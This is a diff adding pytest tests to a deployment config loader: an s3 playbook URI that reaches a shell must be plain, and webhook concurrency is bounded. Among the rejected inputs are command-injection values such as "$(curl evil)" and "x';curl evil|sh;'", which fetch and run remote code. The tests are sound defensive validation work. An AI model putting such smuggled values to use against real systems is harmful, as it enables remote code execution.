@@ -271,3 +271,69 @@ def test_history_budget_at_synth_names_the_stage_and_how_many_groups_fit(tmp_pat
     assert "stages[0].targets: one execution could write" in result.stderr
     assert "stage 'fleet' fits at most 14 rolling group(s)" in result.stderr
     assert not list(tmp_path.glob("*.template.json"))
+
+
+# -- baseImage.ansiblePlaybook and webhook.reservedConcurrency (issue #14) ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "s3://acme-playbooks/x';curl evil|sh;'.yml",
+        "s3://acme-playbooks/$(curl evil).yml",
+        "s3://acme-playbooks/`curl evil`.yml",
+        "s3://acme-playbooks/site.yml;reboot",
+        "s3://acme-playbooks/site&.yml",
+        "s3://acme-playbooks/site>x.yml",
+        "s3://acme-playbooks/my site.yml",
+        "s3://acme-playbooks/site.yml\n",
+        's3://acme-playbooks/"site".yml',
+        "s3://acme-playbooks/site.yml.sh",
+        "https://acme-playbooks.s3.amazonaws.com/site.yml",
+        "s3://Acme_Playbooks/site.yml",
+    ],
+    ids=[
+        "quote",
+        "command substitution",
+        "backticks",
+        "semicolon",
+        "ampersand",
+        "redirection",
+        "space",
+        "trailing newline",
+        "double quote",
+        "not yaml",
+        "https",
+        "bucket name",
+    ],
+)
+def test_ansible_playbook_must_be_a_plain_s3_yaml_uri(uri: str) -> None:
+    with pytest.raises(ConfigError) as raised:
+        load_config(with_("baseImage.ansiblePlaybook", uri))
+    assert (
+        "baseImage.ansiblePlaybook: must be s3://<bucket>/<key>.yml (or .yaml) whose key holds only letters, digits "
+        f"and ._/- (it reaches a shell command), got {uri!r}"
+    ) in str(raised.value)
+
+
+@pytest.mark.parametrize("uri", ["s3://acme-playbooks/site.yml", "s3://acme.playbooks-1/roles/base_image/site-v2.yaml"])
+def test_a_plain_s3_playbook_uri_is_accepted_as_given(uri: str) -> None:
+    assert load_config(with_("baseImage.ansiblePlaybook", uri)).base_image.ansible_playbook == uri
+
+
+def test_webhook_reserves_two_concurrent_executions_unless_configured() -> None:
+    assert load_config(MINIMAL).webhook.reserved_concurrency == 2
+    assert load_config(with_("webhook.reservedConcurrency", None)).webhook.reserved_concurrency is None
+    assert load_config(with_("webhook.reservedConcurrency", 10)).webhook.reserved_concurrency == 10
+
+
+@pytest.mark.parametrize(
+    ("value", "message"),
+    [
+        (0, "webhook.reservedConcurrency must be >= 1, got 0"),
+        (101, "webhook.reservedConcurrency must be <= 100, got 101"),
+    ],
+)
+def test_webhook_reserved_concurrency_is_bounded(value: int, message: str) -> None:
+    with pytest.raises(ConfigError, match=message):
+        load_config(with_("webhook.reservedConcurrency", value))
